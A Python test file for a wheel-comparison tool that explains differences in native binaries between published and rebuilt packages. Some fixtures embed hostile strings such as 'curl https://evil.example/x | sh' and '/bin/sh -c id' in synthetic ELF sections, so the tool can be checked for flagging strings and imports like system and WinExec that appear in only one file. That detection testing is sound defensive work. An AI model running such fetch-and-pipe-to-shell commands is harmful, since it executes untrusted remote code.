"""When native causes are recognised and when not, beyond the golden pairs."""

from collections.abc import Iterator, Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from native_builder import GCC_DEBIAN, GCC_RED_HAT, Elf, build_macho, build_pe, build_universal
from wheelproof.core.identity import Digest
from wheelproof.explain.attribution import explain_sides
from wheelproof.explain.causes.cause import Kind, MemberSide
from wheelproof.explain.causes.native import NATIVE
from wheelproof.explain.view import view_sides


def side(data: bytes, *, kind: Kind = Kind.NATIVE, streamed: bool = False) -> MemberSide:
    def chunks() -> Iterator[bytes]:
        yield from (data[at : at + 1000] for at in range(0, len(data), 1000))

    return MemberSide(
        name="demo/native.so",
        kind=kind,
        dist_info="demo-1.0.dist-info",
        digest=Digest.of_bytes(data),
        size_bytes=len(data),
        mode=0o100755,
        data=None if streamed else data,
        chunks=chunks,
        record_is_true=True,
    )


def causes_of(published: bytes, rebuilt: bytes, *, streamed: bool = False) -> dict[str, str]:
    closed, found = explain_sides(side(published, streamed=streamed), side(rebuilt, streamed=streamed))
    assert not closed
    return {item.cause.id: item.evidence.text for item in found}


def test_no_native_cause_closes() -> None:
    assert not any(cause.closes for cause in NATIVE)


def test_what_appeared_comes_first() -> None:
    published = Elf(
        comment=[GCC_RED_HAT],
        imports=["PyModule_Create2", "zlibVersion", "system@GLIBC_2.2.5"],
        build_id=b"\x22" * 20,
        sections={".text": b"\x90", ".rodata": b"\0curl https://evil.example/x | sh\0"},
    )
    found = causes_of(published.build(), Elf(comment=[GCC_DEBIAN], imports=["PyModule_Create2"]).build())
    assert list(found)[:3] == ["native-imports-appeared", "native-strings-appeared", "native-compiler"]
    assert found["native-imports-appeared"] == (
        "only the published file imports 'system@GLIBC_2.2.5', 'zlibVersion'"
    )
    assert found["native-strings-appeared"] == (
        "only the published file holds 'curl https://evil.example/x | sh'"
    )
    assert "native-code" not in found


def test_another_version_of_a_symbol_is_no_new_import() -> None:
    found = causes_of(Elf(imports=["memcpy@GLIBC_2.2.5"]).build(), Elf(imports=["memcpy@GLIBC_2.14"]).build())
    assert "native-imports-appeared" not in found
    assert "native-symbol-versions" in found


def test_a_path_that_moved_did_not_appear() -> None:
    found = causes_of(
        Elf(sections={".rodata": b"\0/project/src/demo.c\0"}).build(),
        Elf(sections={".rodata": b"\0/tmp/build/src/demo.c\0"}).build(),
    )
    assert list(found) == ["native-build-path"]


def test_an_address_in_a_message_that_was_worded_anew_did_not_appear() -> None:
    address = b"https://docs.example/api.html"
    old, new = b"compiled against another API, see ", b"this was compiled against an older API, look at "
    rebuilt = Elf(sections={".rodata": b"\0" + new + address + b"\0"}).build()
    same = Elf(sections={".rodata": b"\0" + old + address + b"\0"}).build()
    assert "native-strings-appeared" not in causes_of(same, rebuilt)
    other = Elf(sections={".rodata": b"\0" + old + b"https://evil.example/api.html\0"}).build()
    assert causes_of(other, rebuilt)["native-strings-appeared"] == (
        "only the published file holds '…st another API, see https://evil.example/api.html'"
    )
    fetched = Elf(sections={".rodata": b"\0curl " + address + b" | sh\0"}).build()
    assert "native-strings-appeared" in causes_of(fetched, rebuilt)


def test_a_member_that_is_too_large_for_memory_is_streamed() -> None:
    published, rebuilt = Elf(build_id=b"\x22" * 20).build(), Elf().build()
    assert list(causes_of(published, rebuilt, streamed=True)) == ["native-build-id"]
    view = view_sides(side(published, streamed=True), side(rebuilt, streamed=True))
    assert view
    assert view.kind == "native"
    assert view.lines[0].startswith("compiler equal: GCC 14.2.0")


@pytest.mark.parametrize("kind", [Kind.SCRIPT, Kind.OTHER])
def test_programs_among_the_scripts(kind: Kind) -> None:
    sides = [side(Elf(comment=[name]).build(), kind=kind) for name in (GCC_RED_HAT, GCC_DEBIAN)]
    _, found = explain_sides(*sides)
    assert [item.cause.id for item in found] == ["native-compiler"]


def test_the_processor_is_named_where_a_file_has_several_images() -> None:
    def universal(dylib: str) -> bytes:
        return build_universal(
            [(0x1000007, build_macho(cpu=0x1000007)), (0x100000C, build_macho(dylibs=[dylib]))]
        )

    found = causes_of(universal("/usr/lib/libz.1.dylib"), universal("/usr/lib/libc.dylib"))
    assert found == {
        "native-libraries": "arm64: only published: '/usr/lib/libz.1.dylib'; "
        "only rebuilt: '/usr/lib/libc.dylib'"
    }


def test_a_dll_that_starts_a_program() -> None:
    found = causes_of(build_pe(imports={"KERNEL32.dll": ["Sleep", "WinExec"]}), build_pe(imports={}))
    assert found["native-imports-appeared"] == (
        "only the published file imports 'KERNEL32.dll!WinExec', 'KERNEL32.dll!Sleep'"
    )


@pytest.mark.parametrize("published", [Elf().build()[:40], b"\x7fELF" + bytes(100), b"text\n"])
def test_what_cant_be_read_is_unknown(published: bytes) -> None:
    assert list(causes_of(published, Elf().build())) == ["unknown"]


@settings(deadline=None, max_examples=60)
@given(names=st.lists(st.text(st.characters(exclude_characters="\0"), min_size=1), max_size=4))
def test_evidence_and_lines_are_printable_whatever_the_names(names: Sequence[str]) -> None:
    names = [name.encode("utf-8", "replace").decode() for name in names]
    elf = Elf(needed=["libc.so.6", *names], exports=names, comment=names, rpath="".join(names), sources=names)
    sides = side(elf.build()), side(Elf(sections={".text": b"other"}).build())
    _, found = explain_sides(*sides)
    assert all(item.evidence.text.isprintable() for item in found)
    view = view_sides(*sides)
    assert view
    assert all(line.isprintable() for line in view.lines)


def test_a_lone_library_shows_what_it_imports() -> None:
    lone = side(Elf(imports=["system@GLIBC_2.2.5"], sections={".rodata": b"\0/bin/sh -c id\0"}).build())
    compiler = "GCC 14.2.0 (Debian 14.2.0-19)"
    for view, sign in ((view_sides(lone, None), "-"), (view_sides(None, lone), "+")):
        assert view
        assert view.lines[:2] == (
            f"ELF shared object for x86-64, 64-bit little-endian, {compiler}, imports: 1, exports: 1",
            f"{sign}import     system@GLIBC_2.2.5",
        )
        assert f"{sign}string     /bin/sh -c id" in view.lines


def test_equal_files_have_no_view() -> None:
    data = Elf().build()
    assert view_sides(side(data), side(data)) is None
